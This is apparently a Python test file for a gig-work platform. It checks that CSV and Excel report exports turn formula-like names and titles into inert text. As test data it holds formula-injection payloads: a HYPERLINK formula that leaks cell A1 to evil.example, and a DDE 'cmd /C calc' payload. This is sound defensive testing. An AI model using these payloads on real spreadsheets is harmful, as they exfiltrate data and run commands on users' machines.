"""Exports are inert (issue 15, finding 12): a name or a title that a spreadsheet program
would read as a formula comes out as text, in the .xlsx (a string cell) and in the CSV
(an apostrophe in front, per OWASP's CSV injection guidance). The test opens the files."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import asyncpg
import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st

from gigstation.platform.clock import today
from gigstation.sim.demo import demo_resident_id
from tests.api.conftest import API, Api, bearer
from tests.api.test_assignments import dispatch

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP, CSV Injection

WORKER = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
TITLE = "+1+cmd|' /C calc'!A0"
EMPLOYER = "@SUM(1+1)*cmd"
STATION = "-2+3 驿站"
TAB = "\t=1+1"


async def test_exported_names_and_titles_are_text_not_formulas(api: Api, db: asyncpg.Connection[Any]) -> None:
    admin = await api.admin()
    station = await api.station(admin, name=STATION)
    await api.station(admin, name=TAB, lat=31.4, lon=121.4)
    _, op = await api.operator(admin, [station["id"]])
    _, employer = await api.employer(kind="individual", credit_code=None, name=EMPLOYER,
                                     id_number=demo_resident_id(date(1979, 9, 9), 99))
    _, worker = await api.worker(name=WORKER)
    await api.order(employer, title=TITLE, headcount=1)
    await api.checkin(worker, station["id"])
    [offer] = (await dispatch(api, op, station["id"]))["offers"]
    assert (await api.client.post(f"{API}/offers/{offer['id']}/accept", headers=bearer(worker))).status_code == 200
    day = today("Asia/Shanghai")
    end = day + timedelta(days=1)  # the job may start after local midnight
    url = f"{API}/reports/employment?from={day}&to={end}"

    r = await api.client.get(url + "&format=csv", headers=bearer(admin))
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = {c for row in rows[1:] for c in row}
    for text in (WORKER, TITLE, EMPLOYER, STATION):
        assert "'" + text in cells, text
        assert text not in cells, text
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)

    x = await api.client.get(url + "&format=xlsx", headers=bearer(admin))
    assert x.status_code == 200, x.text
    sheet = openpyxl.load_workbook(io.BytesIO(x.content)).active
    assert sheet is not None
    found = {}
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s", (cell.coordinate, cell.value)
                found[cell.value] = cell
    for text in (WORKER, TITLE, EMPLOYER, STATION):
        assert text in found, text  # the text itself, kept as typed
        assert found[text].quotePrefix, text

    # The performance report names the stations: the same holds there.
    p = await api.client.get(f"{API}/reports/district?from={day}&to={end}&format=csv", headers=bearer(admin))
    assert p.status_code == 200, p.text
    names = [row[0] for row in csv.reader(io.StringIO(p.content.decode("utf-8-sig")))]
    assert "'" + STATION in names and "'" + TAB in names
    px = await api.client.get(f"{API}/reports/district?from={day}&to={end}&format=xlsx", headers=bearer(admin))
    book = openpyxl.load_workbook(io.BytesIO(px.content)).active
    assert book is not None
    assert all(c.data_type != "f" for row in book.iter_rows() for c in row)


@settings(max_examples=150, deadline=None)  # openpyxl's round trip is slow on a busy machine
@given(st.lists(st.text(max_size=12), min_size=1, max_size=6), st.integers(-10**6, 10**6))
def test_no_text_ever_becomes_a_formula(texts: list[str], number: int) -> None:
    from gigstation.oversight.exports import render

    row: list[Any] = [*texts, number]
    sheet = openpyxl.load_workbook(io.BytesIO(render("xlsx", "t", ["a"] * len(row), [row]))).active
    assert sheet is not None
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    [back] = list(sheet.iter_rows(min_row=2, values_only=True))
    assert back[-1] == number  # numbers stay numbers, negative ones too
    text = render("csv", "t", ["a"] * len(row), [row]).decode("utf-8-sig")
    [_, cells] = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[:-1] == [t if not t.startswith(FORMULA_STARTS) else "'" + t for t in texts]
    assert cells[-1] == str(number)
